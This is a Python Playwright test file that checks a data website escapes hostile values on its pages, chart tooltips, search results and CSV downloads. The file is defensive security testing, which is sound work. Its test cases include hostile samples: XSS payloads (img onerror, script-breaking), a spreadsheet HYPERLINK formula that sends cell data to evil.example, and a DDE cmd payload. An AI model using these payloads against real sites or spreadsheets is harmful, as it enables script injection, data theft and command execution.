"""The hostile site in a real browser (issue #10): open every page a hostile value
lands on, draw its charts and hover their marks, search for hostile names, and
fail if any script from the data runs or any dialog opens.

The page's Content-Security-Policy is bypassed here, so what is tested is the
escaping itself; tests/test_csp.py tests the policy."""
from __future__ import annotations

import time

import pytest

from hostile.corpus import cases

PAGES = sorted({"index.html", *(p for c in cases("publish") for p in c["lands_on"])})
# Every hostile payload ends in a call of one of these; an injected element or
# handler would run it. Recorded instead of shown, and dialogs are recorded too.
TRAP = """
window.__ran = [];
for (const name of ["alert", "confirm", "prompt", "print"]) {
  window[name] = function (...args) { window.__ran.push(name + "(" + args.join(",") + ")"); };
}
"""
PROVOKE = """
() => {
  for (const el of document.querySelectorAll("body *")) {
    for (const type of ["mouseover", "mouseenter", "focus"]) {
      el.dispatchEvent(new Event(type, {bubbles: false}));
    }
  }
}
"""
CHARTS_DONE = ("[...document.querySelectorAll('figure.vbp-chart')]"
               ".every(f => ['live', 'failed'].includes(f.getAttribute('data-state')))")


def _wait_until(page, expression: str, timeout: float = 30.0) -> None:
    """Poll from Python: Playwright's wait_for_function evals a string in the page,
    which the page's CSP (no 'unsafe-eval') rightly refuses."""
    deadline = time.monotonic() + timeout
    while not page.evaluate(expression):
        assert time.monotonic() < deadline, f"timed out waiting for {expression}"
        page.wait_for_timeout(100)


@pytest.fixture(scope="module")
def hostile_context(browser, hostile_site, serve):
    base = serve(hostile_site)
    context = browser.new_context(bypass_csp=True, locale="zh-CN")
    context.add_init_script(TRAP)
    yield base, context
    context.close()


def _open(context, url):
    page = context.new_page()
    events = {"dialogs": [], "errors": []}
    page.on("dialog", lambda d: (events["dialogs"].append(d.message), d.dismiss()))
    page.on("pageerror", lambda e: events["errors"].append(str(e)))
    page.goto(url, wait_until="load")
    return page, events


def _assert_nothing_ran(page, events, where):
    ran = page.evaluate("window.__ran")
    assert not ran and not events["dialogs"], f"{where}: data ran as script: {ran} {events['dialogs']}"
    assert not events["errors"], f"{where}: page errors {events['errors']}"


@pytest.mark.parametrize("rel", PAGES)
def test_hostile_page_runs_nothing(hostile_context, rel):
    base, context = hostile_context
    page, events = _open(context, f"{base}/{rel.removesuffix('index.html')}")
    try:
        for figure in page.query_selector_all("figure.vbp-chart"):
            figure.scroll_into_view_if_needed()
            figure.dispatch_event("pointerenter")  # data-load="intent" charts start on pointer
        _wait_until(page, CHARTS_DONE)
        failed = page.eval_on_selector_all("figure.vbp-chart[data-state=failed]", "fs => fs.map(f => f.id)")
        assert not failed, f"{rel}: charts failed to draw: {failed}"
        marks = page.query_selector_all(".vbp-chart-live .role-mark > *")
        for mark in marks[:40]:  # tooltips show data text
            try:
                mark.hover(timeout=2_000, force=True)
            except Exception:
                continue
        tooltip = page.query_selector("#vg-tooltip-element")
        if tooltip:
            assert not tooltip.query_selector("img, script, svg, a"), f"{rel}: markup in a chart tooltip"
        page.evaluate(PROVOKE)
        page.wait_for_timeout(300)  # an <img onerror> would fire by now
        _assert_nothing_ran(page, events, rel)
    finally:
        page.close()


@pytest.mark.parametrize("query,shown", [
    ("齐鲁", 'onerror=alert("hx-img")'),
    ("阿托伐他汀", '</script><script>alert("hx-json")</script>'),
    ("乐普", '=HYPERLINK("http://evil.example/?d="&A1,"点此领取补贴")'),
    ("京新", "💊👨‍👩‍👧🇨🇳"),
])
def test_search_results_show_hostile_names_as_text(hostile_context, query, shown):
    """Pagefind results built from hostile names: shown as text, nothing runs."""
    base, context = hostile_context
    page, events = _open(context, base + "/")
    try:
        page.click("#vbp-search-open")
        page.fill("#vbp-search-input", query)
        page.wait_for_selector("#vbp-search-results a", timeout=20_000)
        page.wait_for_timeout(500)
        results = page.inner_text("#vbp-search-results")
        assert shown in results, (query, results[:500])
        assert not page.query_selector("#vbp-search-results img, #vbp-search-results script")
        page.evaluate(PROVOKE)
        page.wait_for_timeout(300)
        _assert_nothing_ran(page, events, f"search {query}")
    finally:
        page.close()


FORMULA = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("rel,expected", [
    ("companies/", ["'=HYPERLINK(", "'@SUM(1+1)"]),
    ("unit/u-atorvastatin-oral/", ["'+cmd|' /C calc'!A0"]),
    ("unit/u-metformin-oral/", ["=1+1"]),
])
def test_table_downloads_are_neutralised(hostile_context, rel, expected):
    """The "下载此表 (CSV)" buttons build CSV in the browser: formula-like text gets
    its apostrophe there too."""
    import csv
    import io

    base, context = hostile_context
    page, events = _open(context, f"{base}/{rel}")
    try:
        buttons = page.query_selector_all(".vbp-table-download button")
        assert buttons, f"{rel}: no table download button"
        cells = []
        for button in buttons:
            with page.expect_download() as download:
                button.dispatch_event("click")  # some tables sit in closed <details>
            text = open(download.value.path(), encoding="utf-8-sig").read()
            cells += [c for row in csv.reader(io.StringIO(text)) for c in row]
        dangerous = [c for c in cells if c.startswith(FORMULA) and not _number(c)]
        assert not dangerous, dangerous[:10]
        for value in expected:
            assert any(c.startswith("'") and value.lstrip("'") in c for c in cells), (value, cells[:40])
        _assert_nothing_ran(page, events, f"downloads on {rel}")
    finally:
        page.close()


def _number(text: str) -> bool:
    try:
        float(text.rstrip("%"))
    except ValueError:
        return False
    return True
